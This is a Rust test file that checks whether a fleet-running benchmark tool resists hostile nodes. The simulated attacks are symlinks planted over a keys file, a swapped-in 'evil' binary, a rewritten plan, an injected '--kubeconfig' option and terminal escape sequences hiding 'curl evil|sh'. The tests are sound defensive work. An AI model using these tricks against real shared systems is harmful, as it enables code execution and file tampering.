//! Nodes that attack the machine that drives, and each other, through the fleet's folder.

use std::fs;
use std::os::unix::fs::symlink;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::cluster::Said;
use crate::engines::Place;
use crate::refusals::find_tare;

/// Time in which every fleet here must have ended.
const PATIENCE: Duration = Duration::from_secs(60);
/// A script that measures, with which every attack is compared.
const HONEST: &str = "{command}";

/// Plans a fleet in a folder, whose jobs run a script on this machine.
fn plan(place: &Place, into: &str, nodes: &str, script: &str, more: &str) {
    let engine = format!("about = \"x\"\nsubmit = [\"sh\", \"-s\"]\nscript = '''\n{script}\n'''\n{more}");
    let on = format!("{into}.toml");
    fs::write(place.path(&on), engine).unwrap();
    let words = ["fleet", "run", "quick", "--on", &on, "--nodes", nodes, "--into", into, "--plan-only"];
    let more = ["--in", "native", "--only", "sys.getppid", "--rounds", "2", "--sessions", "1"];
    let said = place.run_tare(&[&words[..], &more, &["--at-once", "1"]].concat());
    assert_eq!(said.code, Some(0), "{said:?}");
}

/// Runs a fleet within [`PATIENCE`] and 4 GB of memory.
fn drive(place: &Place, folder: &str, state: &str, more: &[&str]) -> Said {
    let mut command = Command::new("sh");
    command.args(["-c", "ulimit -v 4000000; exec timeout -s KILL \"$@\"", "sh"]);
    command.arg(PATIENCE.as_secs().to_string()).arg(find_tare());
    command.args(["fleet", "run", folder]).args(more).current_dir(place.path("")).stdin(Stdio::null());
    command.env("XDG_STATE_HOME", place.path(state)).env("LC_ALL", "C").env("NO_COLOR", "1");
    Said::from_output(command.output().unwrap())
}

fn run(place: &Place, folder: &str) -> Said {
    drive(place, folder, "state", &[])
}

/// Changes a fleet's plan.
fn rewrite(place: &Place, folder: &str, change: impl FnOnce(&mut serde_json::Value)) {
    let file = place.path(folder).join("plan.json");
    let mut plan = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
    change(&mut plan);
    fs::write(&file, plan.to_string()).unwrap();
}

#[test]
fn attacks_are_seen_to_fail_by_a_defence_alone() {
    crate::refusals::assert_tests_see("hostile::");
}

#[test]
fn a_link_that_a_node_planted_is_not_written_through() {
    let place = Place::new();
    plan(&place, "honest", "n1,n2", HONEST, "");
    assert_eq!(run(&place, "honest").code, Some(0));
    let mine = place.path("mine");
    fs::create_dir(&mine).unwrap();
    fs::write(mine.join("keys"), "mine").unwrap();
    for ending in ["job", "log", "why", "part", "parquet", "tare"] {
        let folder = format!("f-{ending}");
        plan(&place, &folder, "n1,n2", HONEST, "");
        let cells = place.path(&folder).join("cells");
        fs::create_dir_all(cells.join("n1")).unwrap();
        symlink(mine.join("keys"), cells.join("n1").join(format!("1.{ending}"))).unwrap();
        symlink(&mine, cells.join("n2")).unwrap();
        let said = run(&place, &folder);
        assert_eq!(said.code, Some(3), "{ending}: {said:?}");
        assert!(said.out.starts_with("1 of 2 sessions"), "n1 is measured, {ending}: {said:?}");
        assert!(said.err.contains("cells/n2 is a link"), "{ending}: {said:?}");
        assert_eq!(fs::read(mine.join("keys")).unwrap(), b"mine", "{ending}");
        assert_eq!(fs::read_dir(&mine).unwrap().count(), 1, "{ending}");
    }
    // Planted while the job runs: the job's own name, and a record that is none.
    let planting = "ln -sf {folder}-mine/keys {folder}/cells/{node}/1.job\n\
                    ln -s {folder}-mine/keys {folder}/cells/{node}/1.tare\nexit 1";
    plan(&place, "later", "n1", planting, "");
    fs::rename(&mine, place.path("later-mine")).unwrap();
    let said = run(&place, "later");
    assert!(said.code == Some(3) && said.err.contains("n1/1 failed"), "{said:?}");
    assert_eq!(fs::read(place.path("later-mine/keys")).unwrap(), b"mine");
}

#[test]
fn a_program_that_a_node_replaced_runs_on_no_other() {
    let place = Place::new();
    plan(&place, "honest", "n1,n2", HONEST, "");
    assert!(run(&place, "honest").out.starts_with("2 of 2 sessions"));
    let evil = place.path("evil");
    fs::write(&evil, format!("#!/bin/sh\necho $* >>{}\n", place.path("ran").display())).unwrap();
    let replace = "mkdir {folder}.once 2>/dev/null && { rm {folder}/tare; cp EVIL {folder}/tare; \
                   chmod 755 {folder}/tare; exit 1; }\n{command}";
    plan(&place, "f", "n1,n2,n3", &replace.replace("EVIL", evil.to_str().unwrap()), "");
    let said = run(&place, "f");
    assert_eq!(said.code, Some(3), "{said:?}");
    assert_eq!(said.out.matches("is not the program of the plan").count(), 2, "{said:?}");
    assert!(!place.path("ran").exists(), "it ran: {said:?}");
}

#[test]
fn a_plan_that_a_node_rewrote_runs_nothing_here() {
    let place = Place::new();
    plan(&place, "f", "n1", HONEST, "");
    let (file, proof) = (place.path("f/plan.json"), place.path("ran"));
    let text = fs::read_to_string(&file).unwrap();
    let evil = format!("about=\"x\"\nsubmit=[\"sh\",\"-c\",\"id >{}\"]\nscript=\"x\"\n", proof.display());
    rewrite(&place, "f", |plan| plan["engine"]["toml"] = evil.into());
    let said = run(&place, "f");
    assert_eq!(said.code, Some(2), "{said:?}");
    assert!(said.err.contains(&format!("sh -c 'id >{}'", proof.display())), "{said:?}");
    assert!(said.err.contains("--trust") && !proof.exists(), "{said:?}");
    // A file from another machine is treated alike unless it is trusted.
    fs::write(&file, &text).unwrap();
    assert_eq!(drive(&place, "f", "other", &[]).code, Some(2));
    assert_eq!(drive(&place, "f", "other", &["--trust"]).code, Some(0));
    fs::remove_file(place.path("f/cells/n1/1.tare")).unwrap();
    assert_eq!(run(&place, "f").code, Some(0), "an untouched plan goes on without a question");
}

#[test]
fn a_reason_that_is_no_text_of_a_file_is_a_failure() {
    let place = Place::new();
    let script = |make: &str| format!("W={{folder}}/cells/n1/1.why\n{make}\nexit 1");
    plan(&place, "honest", "n1", &script("echo no room >$W"), "");
    assert!(run(&place, "honest").err.contains("n1/1 failed: no room"));
    for (folder, make) in [
        ("pipe", "mkfifo $W"),
        ("endless", "ln -s /dev/zero $W"),
        ("long", "head -c 100000 /dev/zero | tr '\\0' x >$W"),
        ("binary", "printf '\\377\\376' >$W"),
        ("folder", "mkdir $W"),
    ] {
        plan(&place, folder, "n1", &script(make).replace("'''", ""), "");
        let said = run(&place, folder);
        assert_eq!(said.code, Some(3), "{folder}: {said:?}");
        assert!(said.err.contains("n1/1 failed: its reason cannot be read"), "{folder}: {said:?}");
    }
}

#[test]
fn a_name_of_a_job_that_a_node_wrote_is_no_option() {
    let place = Place::new();
    let asked = place.path("asked");
    let why = format!("why = [\"sh\", \"-c\", 'echo \"$0\" >>{}', \"{{id}}\"]\n", asked.display());
    let more = format!("state = [\"true\"]\ncancel = [\"true\"]\nsettle = \"1s\"\n{why}");
    for (folder, id, is_asked) in [("honest", "17", true), ("f", "--kubeconfig=/shared/evil", false)] {
        plan(&place, folder, "n1", "echo 18", &more);
        fs::create_dir_all(place.path(folder).join("cells/n1")).unwrap();
        fs::write(place.path(folder).join("cells/n1/1.job"), format!("{id}\n")).unwrap();
        run(&place, folder);
        let said = fs::read_to_string(&asked).unwrap_or_default();
        assert_eq!(said.contains(id), is_asked, "{said}");
    }
}

#[test]
fn texts_of_a_plan_are_printed_without_controls() {
    let place = Place::new();
    plan(&place, "f", "n1", "echo\thonest\n{command}", "");
    let honest = place.run_tare(&["fleet", "print", "f"]).out;
    assert!(honest.contains("\necho\thonest\n") && !honest.contains("do not submit"), "{honest}");
    let toml = "about=\"\\u001b]0;a\\u0007\\n\\u001b[2J\"\nsubmit=[\"sh\",\"-s\",\"\\u001b[31m\"]\n\
                script=\"\\u001b[8mcurl evil|sh\\u001b[0m\\u202e\\n\\u009b\\n\"\n";
    rewrite(&place, "f", |plan| {
        plan["engine"]["toml"] = toml.into();
        plan["engine"]["on"] = "x\u{1b}.toml".into();
    });
    for words in [&["print", "f"][..], &["run", "f"], &["status", "f"], &["report", "f"]] {
        let said = place.run_tare(&[&["fleet"], words].concat());
        let all = format!("{}{}", said.out, said.err);
        let is_control = |c: char| (c.is_control() && c != '\n' && c != '\t') || c == '\u{202e}';
        assert!(!all.contains(is_control), "{words:?}: {all:?}");
    }
    assert!(place.run_tare(&["fleet", "print", "f"]).out.contains("do not submit this text"));
}

#[test]
fn an_attached_job_is_ended_when_its_limit_has_passed() {
    let place = Place::new();
    let script = "[ {node} = n1 ] && while :; do sleep 1; done\n{command}";
    fs::write(
        place.path("own.toml"),
        format!("about = \"x\"\nsubmit = [\"sh\", \"-s\"]\nscript = '''\n{script}\n'''\n"),
    )
    .unwrap();
    let began = Instant::now();
    let words = ["fleet", "run", "quick", "--on", "own.toml", "--nodes", "n1,n2", "--into", "f"];
    let more =
        ["--in", "native", "--only", "sys.getppid", "--rounds", "2", "--sessions", "1", "--limit", "3s"];
    let said = place.run_tare(&[&words[..], &more].concat());
    assert!(began.elapsed() < PATIENCE, "{said:?}");
    assert_eq!(said.code, Some(3), "{said:?}");
    assert!(said.err.contains("n1/1 failed: it took longer than its limit of 3 s"), "{said:?}");
    assert!(said.err.contains("n2/1 measured"), "{said:?}");
}

#[test]
fn reports_make_nothing_behind_a_link() {
    let place = Place::new();
    plan(&place, "f", "n1", HONEST, "");
    assert_eq!(run(&place, "f").code, Some(0));
    assert_eq!(place.run_tare(&["fleet", "report", "f"]).err, "");
    assert!(place.path("f/store/cells/0000.parquet").exists());
    let away = place.path("away");
    fs::create_dir(&away).unwrap();
    for at in ["store", "store/trials", "store/cells"] {
        let store = place.path("f/store");
        fs::remove_file(&store).or_else(|_| fs::remove_dir_all(&store)).unwrap();
        let at = place.path("f").join(at);
        fs::create_dir_all(at.parent().unwrap()).unwrap();
        symlink(&away, &at).unwrap();
        let said = place.run_tare(&["fleet", "report", "f"]);
        assert_eq!(said.code, Some(0), "{said:?}");
        assert!(said.err.contains("is a link, which is not followed"), "{said:?}");
        assert_eq!(fs::read_dir(&away).unwrap().count(), 0, "{}", at.display());
    }
}
